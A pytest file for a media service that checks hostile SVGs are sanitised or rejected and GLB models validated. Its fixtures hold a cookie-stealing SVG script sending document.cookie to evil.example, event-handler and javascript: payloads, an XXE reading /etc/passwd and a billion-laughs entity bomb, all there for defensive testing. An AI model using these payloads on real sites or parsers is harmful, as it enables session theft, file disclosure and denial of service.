"""SVG and GLB through the real handlers on moto: a hostile SVG becomes ready with a sanitised
copy that holds none of its active content, an SVG that cannot be made safe fails with its
code, and a GLB is ready when its container is valid and ``corrupt`` when it is not."""

from __future__ import annotations

import hashlib
import json
import re
import struct

import boto3
import pytest
from defusedxml import ElementTree as defused

from medialib.adapters import object_storage
from medialib.imaging.sniff import SNIFF_BYTES, sniff
from medialib.services import processing
from tests.support import invariants
from tests.support.api import bucket, get_item, listing, presign, process_records, uploads
from tests.support.aws import mocked_aws

SVG_TYPE = "image/svg+xml"
GLB_TYPE = "model/gltf-binary"
SVG_NS = "http://www.w3.org/2000/svg"

HOSTILE_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- exported -->\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    b' width="64" height="32" onload="alert(1)">'
    b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    b'<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml"'
    b' src="https://evil.example/"/></foreignObject>'
    b'<a xlink:href="javascript:alert(2)"><rect id="r" width="10" height="10" onclick="alert(3)"/></a>'
    b'<image href="https://evil.example/pixel.png" width="1" height="1"/>'
    b'<use href="https://evil.example/sprite.svg#x"/><use xlink:href="#r" x="20"/>'
    b"<style>@import url(https://evil.example/x.css); rect { fill: red }</style>"
    b'<circle r="4" style="fill: url(https://evil.example/g.svg#g)"/>'
    b'<set attributeName="href" to="javascript:alert(4)"/>'
    b"</svg>"
)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>'
)
XXE = (
    b'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>'
)


@pytest.fixture(autouse=True)
def aws():
    with mocked_aws():
        yield


def s3():
    return boto3.client("s3")


def keys(prefix: str) -> list[str]:
    return [item["Key"] for item in s3().list_objects_v2(Bucket=bucket(), Prefix=prefix).get("Contents", [])]


def upload(data: bytes, content_type: str, filename: str) -> tuple[str, dict]:
    """Presign and land the bytes as the client would; returns the id and the S3 event record."""
    status, _, body = presign(filename, len(data), content_type=content_type)
    assert status == 201, body
    upload_id = body["data"]["upload_id"]
    key = f"originals/demo/{upload_id}"
    put = s3().put_object(Bucket=bucket(), Key=key, Body=data, ContentType=content_type)
    record = {
        "key": key,
        "size": len(data),
        "eTag": put["ETag"].strip('"'),
        "sequencer": "0065F1A2B3C4D5E6F7",
    }
    return upload_id, record


def confirm(upload_id: str) -> tuple[int, dict]:
    status, _, answer = uploads("confirm-upload", body={"upload_id": upload_id})
    return status, answer


def through(data: bytes, content_type: str, filename: str, *, process_first: bool = False) -> dict:
    upload_id, record = upload(data, content_type, filename)
    if process_first:
        assert process_records(record) == {"batchItemFailures": []}
        assert get_item(upload_id) is None  # worked out ahead, never listed before confirm
    assert confirm(upload_id)[0] == 201
    assert process_records(record) == {"batchItemFailures": []}  # or a duplicate event
    item = get_item(upload_id)
    assert item is not None
    return item


def stored(key: str) -> tuple[bytes, dict]:
    got = s3().get_object(Bucket=bucket(), Key=key)
    return got["Body"].read(), got


def assert_no_active_content(data: bytes) -> None:
    text = data.decode("utf-8").lower()
    for needle in ("script", "alert", "evil.example", "foreignobject", "iframe", "onload", "onclick",
                   "javascript:", "@import", "<!doctype", "<!entity"):  # fmt: skip
        assert needle not in text, needle
    for element in defused.fromstring(data).iter():
        assert element.tag.startswith(f"{{{SVG_NS}}}"), element.tag
        for name, value in element.attrib.items():
            if name.endswith("href"):
                assert value.startswith("#"), value
    assert all(target.startswith("#") for target in re.findall(r"url\(\s*['\"]?(.)", text))


@pytest.mark.parametrize("process_first", [False, True], ids=["confirm-first", "process-first"])
def test_a_hostile_svg_is_ready_and_served_only_sanitised(process_first):
    item = through(HOSTILE_SVG, SVG_TYPE, "logo.svg", process_first=process_first)
    assert (item["status"], item["content_type"], item["width"], item["height"]) == (
        "ready",
        SVG_TYPE,
        64,
        32,
    )
    assert item["sha256"] == hashlib.sha256(HOSTILE_SVG).hexdigest()  # of the upload: duplicates match
    [variant] = item["variants"]
    assert (variant["name"], variant["format"], variant["width"], variant["height"]) == (
        "sanitised",
        "svg",
        64,
        32,
    )
    key = variant["url"].removeprefix("https://cdn.example.test/")
    assert key.startswith(f"variants/demo/{item['id']}/") and key.endswith("/sanitised.svg")
    data, head = stored(key)
    assert head["ContentType"] == SVG_TYPE
    assert head["ContentDisposition"] == "attachment; filename*=UTF-8''logo.svg"
    assert_no_active_content(data)
    drawing = defused.fromstring(data)
    assert [element.tag.rpartition("}")[2] for element in drawing.iter()] == [
        "svg", "a", "rect", "image", "use", "use", "circle",
    ]  # fmt: skip
    assert keys(f"variants/demo/{item['id']}/") == [key]
    assert listing()["media_ids"] == [item["id"]]
    assert invariants.violations() == []


def test_the_url_of_an_svg_item_serves_the_sanitised_copy():
    item = through(HOSTILE_SVG, SVG_TYPE, "logo.svg")
    assert item["url"] == item["variants"][0]["url"]


def test_a_duplicate_event_for_a_sanitised_svg_changes_nothing():
    upload_id, record = upload(HOSTILE_SVG, SVG_TYPE, "logo.svg")
    assert confirm(upload_id)[0] == 201
    process_records(record)
    before = get_item(upload_id)
    assert process_records(record) == {"batchItemFailures": []}
    assert get_item(upload_id) == before
    assert len(keys(f"variants/demo/{upload_id}/")) == 1


def test_an_svg_without_a_size_gets_the_default_object_size_for_its_copy():
    item = through(
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="5" height="5"/></svg>', SVG_TYPE, "a.svg"
    )
    assert (item["width"], item["height"]) == (None, None)
    assert (item["variants"][0]["width"], item["variants"][0]["height"]) == (300, 150)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (BILLION_LAUGHS, "unsafe_svg"),
        (XXE, "unsafe_svg"),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 200 + b"</g>" * 200 + b"</svg>",
            "unsafe_svg",
        ),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>', "corrupt"),
        (b"<svg ", "corrupt"),
    ],
    ids=["billion-laughs", "xxe", "deep-nesting", "mismatched-tags", "truncated"],
)
@pytest.mark.parametrize("process_first", [False, True], ids=["confirm-first", "process-first"])
def test_an_svg_that_cannot_be_made_safe_fails_with_its_code(data, code, process_first):
    upload_id, record = upload(data, SVG_TYPE, "bad.svg")
    if process_first:
        process_records(record)
        assert get_item(upload_id) is None
        status, answer = confirm(upload_id)
        assert status == 201 and answer["data"]["status"] == "failed"
    else:
        assert confirm(upload_id)[0] == 201
        process_records(record)
    item = get_item(upload_id)
    assert item is not None
    assert (item["status"], item["error"]["code"], item["variants"]) == ("failed", code, [])
    assert keys(f"originals/demo/{upload_id}") == [] and keys(f"variants/demo/{upload_id}") == []
    assert invariants.violations() == []


def test_an_svg_over_the_parse_limit_is_refused_at_presign_and_when_more_bytes_land():
    data = b'<svg xmlns="http://www.w3.org/2000/svg"><!--' + b"x" * (5 * 1024 * 1024) + b"--></svg>"
    status, _, problem = presign("huge.svg", len(data), content_type=SVG_TYPE)
    assert (status, problem["code"]) == (413, "payload_too_large")
    # Declared small, but more bytes land (a PUT cannot bound them): the verdict refuses them.
    status, _, body = presign("huge.svg", 1000, content_type=SVG_TYPE, method="PUT")
    assert status == 201, body
    upload_id = body["data"]["upload_id"]
    s3().put_object(Bucket=bucket(), Key=f"originals/demo/{upload_id}", Body=data, ContentType=SVG_TYPE)
    assert confirm(upload_id)[0] == 413
    assert get_item(upload_id)["error"]["code"] == "too_large"
    assert invariants.violations() == []


# GLB --------------------------------------------------------------------------------------


def glb(document: object = None, binary: bytes = b"\x00" * 16, *, length_delta: int = 0) -> bytes:
    payload = json.dumps(document or {"asset": {"version": "2.0"}, "buffers": [{"byteLength": len(binary)}]})
    json_bytes = payload.encode() + b" " * (-len(payload.encode()) % 4)
    chunks = struct.pack("<II", len(json_bytes), 0x4E4F534A) + json_bytes
    if binary:
        chunks += struct.pack("<II", len(binary), 0x004E4942) + binary
    return struct.pack("<4sII", b"glTF", 2, 12 + len(chunks) + length_delta) + chunks


@pytest.mark.parametrize("process_first", [False, True], ids=["confirm-first", "process-first"])
def test_a_valid_glb_is_ready_without_variants(process_first):
    data = glb()
    item = through(data, GLB_TYPE, "chair.glb", process_first=process_first)
    assert (item["status"], item["kind"], item["content_type"]) == ("ready", "model", GLB_TYPE)
    assert (item["variants"], item["width"], item["error"]) == ([], None, None)
    assert item["size"] == len(data) and item["sha256"] == hashlib.sha256(data).hexdigest()
    assert invariants.violations() == []


@pytest.mark.parametrize(
    "data",
    [glb(["not", "an", "object"]), glb({"asset": {"version": "1.0"}}), glb(length_delta=8), glb()[:-4]],
    ids=["json-not-an-object", "asset-version-1", "wrong-length", "truncated"],
)
def test_an_invalid_glb_fails_as_corrupt(data):
    item = through(data, GLB_TYPE, "broken.glb")
    assert (item["status"], item["error"]["code"], item["variants"]) == ("failed", "corrupt", [])
    assert keys(f"originals/demo/{item['id']}") == []
    assert invariants.violations() == []


def test_a_glb_not_held_in_memory_is_validated_by_range_reads():
    """The path for models larger than what processing keeps in memory: header, chunk headers
    and JSON by range, the binary buffer never read."""
    good, bad = glb(binary=b"\x00" * 4096), glb(["x"], binary=b"\x00" * 4096)
    sniffed_glb = sniff(good[:SNIFF_BYTES])
    results = []
    for name, data in (("good", good), ("bad", bad)):
        key = f"originals/demo/{name}"
        etag = s3().put_object(Bucket=bucket(), Key=key, Body=data)["ETag"].strip('"')
        read = object_storage.read(key, head_length=SNIFF_BYTES, keep_limit=0, etag=etag)
        assert read is not None and read.data is None
        landed = processing.LandedObject(key=key, etag=etag, sequencer="1", size=len(data))
        # A model's validation reads only the object, never the item.
        results.append(processing._work_out(None, landed, sniffed_glb, read, {}, []))  # type: ignore[arg-type]
    assert results == [None, "corrupt"]


def test_a_glb_replaced_while_read_by_range_is_superseded():
    key, data = "originals/demo/replaced", glb()
    etag = s3().put_object(Bucket=bucket(), Key=key, Body=data)["ETag"].strip('"')
    read = object_storage.read(key, head_length=SNIFF_BYTES, keep_limit=0, etag=etag)
    assert read is not None
    s3().put_object(Bucket=bucket(), Key=key, Body=glb(binary=b"\x01" * 16))
    landed = processing.LandedObject(key=key, etag=etag, sequencer="1", size=len(data))
    with pytest.raises(processing._OriginalGone):
        processing._validate_model(landed, read)
